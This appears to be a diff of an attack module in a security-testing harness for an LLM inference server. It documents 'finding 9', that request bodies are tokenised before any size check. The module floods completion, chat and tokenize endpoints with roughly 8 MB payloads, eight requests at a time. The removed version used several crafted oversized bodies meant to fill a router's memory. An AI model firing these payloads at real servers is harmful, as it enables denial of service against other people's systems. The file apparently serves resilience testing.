@@ -1,53 +1,33 @@
-"""Finding 9: bodies of 8 MB that are tokenised, parsed and counted before anyone asks how much."""
+"""Bodies of 8 MB that are tokenised before anybody asks how long they may be."""
 
-import asyncio
-import itertools
 import json
 
-import httpx
-
 from tools.attacks.target import Target
+from tools.attacks.uploads import CHAT
 
-NAME = "large bodies"
+FINDING = "9: bodies are tokenised before any size check"
 
-BODY_BYTES = 8 * 2**20 - 200
 AT_ONCE = 8
-JSON = {"content-type": "application/json"}
-
-
-def bodies() -> list[tuple[str, bytes]]:
-    """Paths and what is posted there: each once filled a router's memory, or held its thread."""
-    marks = "\ue000end\ue000" * 900_000
-    messages = [{"role": "user", "content": "x"}, {"role": "assistant", "content": marks}]
-    continued = {"continue_final_message": True, "add_generation_prompt": False}
-    spaces = [{"role": "user", "content": " " * BODY_BYTES}]
-    keys = b",".join(b'"%x":0' % number for number in range(BODY_BYTES // 10))
-    lists = b"[1]," * (BODY_BYTES // 4 - 10)
-    return [
-        ("/v1/chat/completions", _json({"messages": spaces})),
-        ("/v1/completions", _json({"prompt": "a b c " * (BODY_BYTES // 7)})),
-        ("/tokenize", _json({"messages": messages, **continued})),
-        ("/v1/completions", b'{"prompt":[' + lists + b"[1]]}"),
-        ("/v1/chat/completions", b"{" + keys + b"}"),
-        ("/detokenize", b'{"tokens":[' + b"1," * (BODY_BYTES // 2 - 20) + b"1]}"),
-    ]
+LARGEST = 8_300_000
+HEADERS = {"content-type": "application/json"}
 
 
 async def attack(target: Target) -> None:
-    """Eight at a time, as fast as the limit of requests lets them in."""
-    turns = itertools.cycle(bodies())
-    async with target.client() as client, asyncio.TaskGroup() as tasks:
-        for _ in range(AT_ONCE):
-            tasks.create_task(_post_for_ever(target, client, turns))
+    """Spaces, as a prompt, as a message and to be tokenised, in turn."""
+    spaces = " " * LARGEST
+    asked = [
+        ("/v1/completions", {"prompt": spaces, "max_tokens": 1}),
+        (CHAT, {"messages": [{"role": "user", "content": spaces}], "max_tokens": 1}),
+        ("/tokenize", {"prompt": spaces}),
+    ]
+    bodies = [(path, json.dumps(body).encode()) for path, body in asked]
+    number = 0
+    async with target.client() as client:
 
+        async def ask() -> None:
+            nonlocal number
+            path, content = bodies[number % len(bodies)]
+            number += 1
+            await target.post(client, path, content=content, headers=HEADERS)
 
-async def _post_for_ever(
-    target: Target, client: httpx.AsyncClient, turns: "itertools.cycle[tuple[str, bytes]]"
-) -> None:
-    while await target.turn():
-        path, body = next(turns)
-        await target.post(client, path, content=body, headers=JSON)
-
-
-def _json(value: object) -> bytes:
-    return json.dumps(value, ensure_ascii=False).encode()
+        await target.crowd(ask, AT_ONCE)
